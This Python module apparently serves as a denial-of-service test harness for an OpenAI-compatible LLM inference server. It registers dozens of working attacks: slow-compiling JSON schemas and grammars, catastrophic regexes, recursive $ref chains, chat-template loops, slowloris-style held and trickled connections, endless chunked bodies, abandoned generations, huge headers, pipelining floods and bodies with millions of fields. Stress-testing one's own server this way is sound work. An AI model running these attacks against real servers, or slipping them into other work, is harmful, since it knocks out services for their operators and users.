"""Attacks on a server: each a function that carries it out and gives what was answered, how often."""

from __future__ import annotations

import json
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import partial
from typing import Any

ADDRESS = "127.0.0.2"  # from which attackers come: a machine of their own
COMPLETIONS, CHAT = "/v1/completions", "/v1/chat/completions"
ANSWER_S, CLIENTS, HELD_S = 90.0, 32, 3.0
LEAD_BYTE = 'logit_bias of "\\xe4"'
Answers = Counter[str]


@dataclass(frozen=True)
class Target:
    """A server, the key of an attacker who has one, and a token that is the first byte of a character."""

    host: str
    port: int
    key: str
    operator_key: str
    lead_byte: int

    def connect(self) -> socket.socket:
        connected = socket.create_connection((self.host, self.port), ANSWER_S, source_address=(ADDRESS, 0))
        connected.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connected

    def head(
        self, path: str, *headers: str, method: str = "POST", version: str = "1.1", key: str | None = None
    ) -> bytes:
        lines = [f"{method} {path} HTTP/{version}", "Host: x", f"Authorization: Bearer {key or self.key}", *headers]
        return "\r\n".join([*lines, "", ""]).encode("latin-1")

    def request(self, path: str, body: Any = None, *headers: str, **settings: Any) -> bytes:
        """One after which the server closes, unless a header says otherwise."""
        if body is None:
            return self.head(path, "Connection: close", *headers, method="GET", **settings)
        encoded = body if isinstance(body, bytes) else json.dumps(body).encode()
        about = ("Content-Type: application/json", f"Content-Length: {len(encoded)}", "Connection: close")
        return self.head(path, *about, *headers, **settings) + encoded

    def send(self, raw: bytes) -> str:
        """The status of the answer, ``closed`` where there is none."""
        answer = b""
        with suppress(OSError), self.connect() as connection:
            with suppress(OSError):  # who refuses a body need not read it
                connection.sendall(raw)
            while part := connection.recv(1 << 16):
                answer = (answer + part)[: 1 << 12]
        return answer[9:12].decode("latin-1") if answer else "closed"

    def send_all(self, raws: Iterable[bytes], clients: int = CLIENTS) -> Answers:
        with ThreadPoolExecutor(clients) as pool:
            return Counter(pool.map(self.send, raws))

    def ask_all(self, path: str, bodies: Iterable[Any], clients: int = CLIENTS) -> Answers:
        return self.send_all((self.request(path, body) for body in bodies), clients)

    def leave(self, raw: bytes, after_s: float = 0.3) -> str:
        """Ask, and go away."""
        with suppress(OSError), self.connect() as connection:
            connection.sendall(raw)
            time.sleep(after_s)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # with a reset
        return "left"

    def hold(self, raw: bytes, count: int, seconds: float = HELD_S) -> Answers:
        """Send the same over many connections, and keep them for a while without a word."""
        found = Counter[str]()
        with ExitStack() as held:
            for _ in range(count):
                try:
                    connection = held.enter_context(self.connect())
                    connection.sendall(raw)
                except OSError:
                    found["closed"] += 1
                else:
                    found["held"] += 1
            time.sleep(seconds)
        return found


Attack = Callable[[Target], Answers]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[name] = function
        return function

    return add


def schema_of(schema: Any, **more: Any) -> dict[str, Any]:
    named = {"name": "x", "schema": schema}
    return {"prompt": "x", "max_tokens": 8, "response_format": {"type": "json_schema", "json_schema": named}, **more}


def nested(depth: int, inner: Any = 1) -> Any:
    for _ in range(depth):
        inner = {"a": inner}
    return inner


# Grammars


@attack("A1 six schemas that compile for ever, again and again")
def endless_schemas(target: Target) -> Answers:
    return target.ask_all(COMPLETIONS, [schema_of({"type": "integer", "multipleOf": 99_999_999})] * 24, 6)


@attack("A1 sixteen slow schemas, each another")
def slow_schemas(target: Target) -> Answers:
    return target.ask_all(
        COMPLETIONS, [schema_of({"type": "integer", "multipleOf": 99_999_989 - i}) for i in range(16)]
    )


@attack("A1 a slow schema with 16 choices, streamed")
def streamed_schemas(target: Target) -> Answers:
    return target.ask_all(
        COMPLETIONS,
        [schema_of({"type": "integer", "multipleOf": 20_011 + 2 * i}, n=16, stream=True) for i in range(16)],
    )


@attack("A1 $ref: chains, circles, recursion")
def references(target: Target) -> Answers:
    chain = {f"d{i}": {"$ref": f"#/$defs/d{i + 1}"} for i in range(400)} | {"d400": {"type": "string"}}
    tree = {"type": "object", "properties": {name: {"$ref": "#"} for name in "abcdefgh"}, "required": list("abcdefgh")}
    doubled = {f"d{i}": {"type": "array", "prefixItems": [{"$ref": f"#/$defs/d{i + 1}"}] * 2} for i in range(60)}
    schemas = [
        {"$ref": "#/$defs/d0", "$defs": chain},
        {"$ref": "#/$defs/a", "$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}},
        tree,
        {"$ref": "#/$defs/d0", "$defs": doubled | {"d60": {"type": "string"}}},
        {"allOf": [{"$ref": "#"}, {"$ref": "#"}]},
        {"anyOf": [{"$ref": "#"}, {"type": "array", "items": {"$ref": "#"}}]},
    ]
    return target.ask_all(COMPLETIONS, [schema_of(schema) for schema in schemas * 4])


@attack("A1 huge enums, counts and nested quantifiers")
def counts(target: Target) -> Answers:
    patterns = ["^(a+)+$", "^((a{1,1000}){1,1000}){1,1000}$", "^(a|b)*a(a|b){500}$", "^(([a-z])+.)+[A-Z]([a-z])+$",
                "^(" + "|".join(f"a{i}.*b{i}" for i in range(900)) + ")$"]  # fmt: skip
    schemas: list[Any] = [{"type": "string", "pattern": pattern} for pattern in patterns]
    schemas += [{"enum": list(range(n))} for n in (2_000, 200_000)]
    schemas += [{"enum": ["a" * 3_000 + str(i) for i in range(5)]}, {"const": "a" * 3_000_000}]
    schemas += [{"type": "array", "minItems": n, "items": {"type": "integer"}} for n in (10**5, 10**6, 10**30)]
    schemas += [{"type": "string", "minLength": 99_999, "maxLength": 100_000}]
    schemas += [{"type": "object", "properties": {f"k{i}": {"type": "integer"} for i in range(700)}}]
    schemas += [{"allOf": [{"type": "string", "pattern": f".*{c}.*{c}.*"} for c in "abcdefghijklmnop"]}]
    return target.ask_all(COMPLETIONS, [schema_of(schema, n=4) for schema in schemas * 2])


@attack("A1 grammars that are ambiguous at every token")
def ambiguous(target: Target) -> Answers:
    larks = ['start: e\ne: e e e | e e | /[a-z]/ | /[a-y]/ | /[a-x]*/', 'start: a\na: a a | "x" | ""',
             "start: (" + "|".join(f"/[a-z]*{chr(97 + i % 26)}.{{{i}}}/" for i in range(300)) + ")*"]  # fmt: skip
    bodies = [{"prompt": "x", "max_tokens": 64, "n": 8, "grammar": "%llguidance {}\n" + lark} for lark in larks]
    return target.ask_all(
        COMPLETIONS, [body | {"stream": streamed} for body in bodies * 4 for streamed in (True, False)]
    )


# Work that outlives its client


def until_end(target: Target, **more: Any) -> bytes:
    bias = {str(target.lead_byte): 100}
    return target.request(COMPLETIONS, {"prompt": "import os\n", "max_tokens": 256, "logit_bias": bias, **more})


@attack("A2 log-probabilities of half characters, and the client leaves")
def half_characters(target: Target) -> Answers:
    with ThreadPoolExecutor(8) as pool:
        return Counter(pool.map(lambda _: target.leave(until_end(target, logprobs=5, n=4)), range(24)))


@attack("A2 streams of half characters, and the client leaves")
def half_streams(target: Target) -> Answers:
    with ThreadPoolExecutor(8) as pool:
        return Counter(pool.map(lambda _: target.leave(until_end(target, stream=True, n=4)), range(24)))


@attack("A2 long prompts told with log-probabilities, and the client leaves")
def told_prompts(target: Target) -> Answers:
    body = {"prompt": [[1] * 2_000] * 8, "max_tokens": 1, "echo": True, "logprobs": 20}
    with ThreadPoolExecutor(8) as pool:
        return Counter(pool.map(lambda _: target.leave(target.request(COMPLETIONS, body)), range(16)))


# Chat templates


def chat(content: Any, **more: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": content}], "max_tokens": 2, **more}


@attack("A3 messages over which the template loops, recurses or writes for ever")
def templates(target: Target) -> Answers:
    return target.ask_all(CHAT, [chat(word) for word in ("LOOP", "RECURSE", "OUTPUT", "MEMORY") * 10])


@attack("A3 messages of 3 MiB, sixteen at a time")
def long_messages(target: Target) -> Answers:
    return target.ask_all(CHAT, [chat("<|x" * (1 << 20))] * 48, 16)


@attack("A3 nested tools, schemas and arguments")
def nested_tools(target: Target) -> Answers:
    """What one reader takes, the next may not."""
    tools = [{"type": "function", "function": {"name": "f", "parameters": "DEEP"}}]
    raws = []
    for depth in (50, 90, 200, 300, 400, 450, 480, 500, 600, 700, 800, 900, 950, 980, 5_000):
        deep = '{"a":' * depth + "1" + "}" * depth
        call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": deep}}
        bodies = [
            chat("x", tools=tools),
            chat("x", tools=tools, tool_choice="required"),
            {"messages": [{"role": "user", "content": "x"}, {"role": "assistant", "tool_calls": [call]}]},
            chat("x", metadata="DEEP"),
            {"messages": chat("x")["messages"], **{**schema_of("DEEP"), "prompt": None}},
        ]
        raws += [json.dumps(body).replace('"DEEP"', deep).encode() for body in bodies]
    return target.ask_all(CHAT, raws)


# Connections


@attack("A5 headers that never end: 300 connections, a byte now and then")
def slow_headers(target: Target) -> Answers:
    with ExitStack() as held:
        connections = [held.enter_context(target.connect()) for _ in range(300)]
        for connection in connections:
            connection.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX: ")
        for _ in range(6):
            time.sleep(0.5)
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(b"y")
    return Counter({"held": 300})


@attack("A5 1,500 connections that say nothing")
def silent(target: Target) -> Answers:
    return target.hold(b"", 1_500)


@attack("A5 an empty line after a reply, 300 connections")
def empty_lines(target: Target) -> Answers:
    return target.hold(target.head("/v1/models", method="GET") + b"\r\n", 300)


@attack("A5 bodies without a key that trickle, 300 connections")
def trickled_bodies(target: Target) -> Answers:
    return target.hold(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\na", 300)


def poured(target: Target, part: bytes, key: str | None = None) -> str:
    """A chunked body without an end, as fast as it goes, for some seconds."""
    head = target.head(COMPLETIONS, "Transfer-Encoding: chunked", "Content-Type: application/json", key=key)
    over_s, data = time.monotonic() + HELD_S, part * ((1 << 18) // len(part))
    with target.connect() as connection:
        with suppress(OSError):
            connection.sendall(head)
            while time.monotonic() < over_s:
                connection.sendall(data)
        with suppress(OSError):
            connection.settimeout(1)
            return connection.recv(100)[9:12].decode("latin-1") or "closed"
    return "closed"


@attack("A5 chunked bodies that never end, with and without a key")
def endless_bodies(target: Target) -> Answers:
    jobs = [partial(poured, target, part, key) for part in (b"1\r\nx\r\n", b"4000\r\n" + b"x" * 0x4000 + b"\r\n")
            for key in (None, "none") for _ in range(4)]  # fmt: skip
    with ThreadPoolExecutor(len(jobs)) as pool:
        return Counter(pool.map(lambda job: job(), jobs))


@attack("A5 clients that never read: 200 pipelined documents each, 50 connections")
def never_read(target: Target) -> Answers:
    with ExitStack() as held:
        for _ in range(50):
            connection = held.enter_context(target.connect())
            connection.settimeout(0.2)
            with suppress(OSError):
                connection.sendall(target.head("/openapi.json", method="GET") * 200)
        time.sleep(HELD_S)
    return Counter({"held": 50})


@attack("A5 streams that are never read, 64 at once")
def unread_streams(target: Target) -> Answers:
    body = {"prompt": "import os\n", "max_tokens": 256, "stream": True, "n": 4, "temperature": 1.0}
    return target.hold(target.request(COMPLETIONS, body), 64)


@attack("A5 half-closed sockets")
def half_closed(target: Target) -> Answers:
    def ask(raw: bytes) -> str:
        with suppress(OSError), target.connect() as connection:
            connection.sendall(raw)
            connection.shutdown(socket.SHUT_WR)
            return connection.recv(100)[9:12].decode("latin-1") or "closed"
        return "closed"

    whole = target.request(COMPLETIONS, {"prompt": "x", "max_tokens": 256, "stream": True})
    with ThreadPoolExecutor(CLIENTS) as pool:
        return Counter(pool.map(ask, [whole, whole[:-5], whole[:30], target.request("/v1/models")] * 16))


@attack("A5 2,000 upgrades to WebSocket and HTTP/2, without a key")
def upgrades(target: Target) -> Answers:
    socket_key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13"
    raws = [
        f"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, close\r\nUpgrade: {name}\r\n{socket_key}\r\n\r\n".encode()
        for name in ("websocket", "h2c", "TLS/1.0", "x")
    ]
    return target.send_all(raws * 500)


@attack("A5 huge headers: one of 1 MiB, 100,000 small ones, a long path")
def huge_headers(target: Target) -> Answers:
    raws = [
        target.head("/v1/models", "X: " + "y" * (1 << 20), method="GET"),
        target.head("/v1/models", *["a: b"] * 100_000, method="GET"),
        target.head("/v1/models", *["a: b"] * 30_000, "Connection: close", method="GET"),
        target.head("/v1/models/" + "a" * (1 << 20), method="GET"),
    ]
    return target.send_all(raws * 24)


@attack("A5 HTTP/1.0, 0.9 and 9.9, and a wait for 100 Continue")
def old_versions(target: Target) -> Answers:
    raws = [target.request(COMPLETIONS, {"prompt": "x", "stream": stream}, version=version)
            for version in ("1.0", "0.9", "9.9") for stream in (False, True)]  # fmt: skip
    found = target.send_all(raws * 8)
    waiting = target.head(COMPLETIONS, "Expect: 100-continue", "Content-Length: 20", "Content-Type: application/json")
    return found + target.hold(waiting, 64)


@attack("A5 7,000 pipelined requests a connection, 8 connections")
def pipelined(target: Target) -> Answers:
    return target.send_all([target.head("/v1/models", method="GET") * 7_000 + target.request("/v1/models")] * 8, 8)


@attack("A5 2,000 connections that are reset at once")
def resets(target: Target) -> Answers:
    raw = target.request(COMPLETIONS, {"prompt": "x", "max_tokens": 256})
    with ThreadPoolExecutor(CLIENTS) as pool:
        return Counter(pool.map(lambda _: target.leave(raw, 0.0), range(2_000)))


# Bodies


@attack("A6 arrays of prompts: a million, and 16 of 130,000 ids")
def prompt_arrays(target: Target) -> Answers:
    bodies: list[Any] = [{"prompt": [[1]] * 600_000}, {"prompt": ["a"] * 700_000}, {"prompt": [[1] * 120_000] * 16},
                         {"prompt": [1] * 260_000}, {"prompt": [1.5] * 600_000},
                         {"prompt": [{}] * 900_000}]  # fmt: skip
    return target.ask_all(COMPLETIONS, bodies * 3, 6)


@attack("A6 400,000 unknown fields, at every depth")
def unknown_fields(target: Target) -> Answers:
    many = {str(i): 1 for i in range(300_000)}
    found = target.ask_all(COMPLETIONS, [{"prompt": "x", **many}, {"prompt": "x", "stream_options": many}] * 2, 2)
    bodies = [{"messages": [{"role": "user", "content": "x", **many}]}, {"messages": [{"x": 1}] * 400_000},
              chat("x", tools=[many]), chat("x", tools=[{"x": 1}] * 400_000), chat("x", metadata=many)]  # fmt: skip
    found += target.ask_all(CHAT, bodies, 2)
    return found + target.ask_all("/v1/ratings", [{"id": "x", "rating": 1, **many}], 2)


@attack("A6 unknown fields in bodies of 64 KiB, sixteen at a time")
def short_unknown_fields(target: Target) -> Answers:
    return target.ask_all(COMPLETIONS, [{"prompt": "x", **{str(i): 1 for i in range(6_000)}}] * 200, 16)


@attack("A6 texts of 4 MB in every field")
def long_texts(target: Target) -> Answers:
    text = "a" * 4_000_000
    bodies: list[Any] = [{"prompt": "x", name: text} for name in ("model", "user", "grammar", "stop", "suffix")]
    bodies += [{"prompt": text}, {"prompt": "x", "stop": [text[:250_000]] * 16}, {"prompt": "é" * 600_000}]
    return target.ask_all(COMPLETIONS, bodies * 2, 8)


@attack("A6 300,000 biases, n and best_of of a million, a thousand stops")
def many_values(target: Target) -> Answers:
    bodies: list[Any] = [
        {"prompt": "x", "logit_bias": {str(i): 1 for i in range(300_000)}},
        {"prompt": "x", "logit_bias": {str(i): 1 for i in range(2_000)}},
        {"prompt": "x", "n": 10**6},
        {"prompt": "x", "best_of": 10**6},
        {"prompt": "x", "n": 16, "best_of": 16, "max_tokens": 256},
        {"prompt": "x", "stop": [str(i) for i in range(1_000)]},
        {"prompt": "x", "stop": [str(i) for i in range(400_000)]},
        {"prompt": "x", "seed": 10**4_000},
        b'{"prompt":"x","n":' + b"9" * 100_000 + b"}",
    ]
    return target.ask_all(COMPLETIONS, bodies * 3, 8)


@attack("A6 65,000 calls of tools, and messages in a million parts")
def many_parts(target: Target) -> Answers:
    call = {"id": "a", "type": "function", "function": {"name": "a", "arguments": "{}"}}
    tools = [
        {"type": "function", "function": {"name": f"a{i}", "parameters": {"enum": list(range(3_000))}}}
        for i in range(100)
    ]
    bodies: list[Any] = [
        {"messages": [{"role": "assistant", "tool_calls": [call] * 100}] * 400},
        chat([{}] * 1_000_000),
        chat([{"type": "text", "text": "a"}] * 100_000),
        chat("x", tools=tools),
        chat("x", tools=tools, tool_choice="required"),
    ]
    return target.ask_all(CHAT, bodies * 2, 4)


@attack("A6 /metrics, 400 times")
def metrics(target: Target) -> Answers:
    raws = [target.request("/metrics"), target.request("/metrics", key=target.operator_key)]
    return target.send_all(raws * 200)


@attack("A6 6,000 small requests by 200 clients of one key")
def small_requests(target: Target) -> Answers:
    body = {"prompt": "x", "max_tokens": 64, "temperature": 1.0}
    return target.ask_all(COMPLETIONS, [body] * 3_000, 200) + target.send_all(
        [target.request("/v1/models")] * 3_000, 200
    )
